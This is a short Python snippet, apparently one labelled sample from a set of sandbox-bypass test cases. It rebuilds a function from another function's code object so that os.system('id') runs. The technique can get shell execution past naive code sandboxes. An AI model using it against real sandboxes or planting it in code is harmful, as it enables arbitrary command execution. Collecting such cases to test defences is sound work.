# family: classic (a code object made from bytes: function.__new__)   goal: id
def evil():
    import os
    os.system("id")
def honest():
    pass
code = evil.__code__
fn = type(honest)(code, {"__builtins__": __builtins__})
fn()
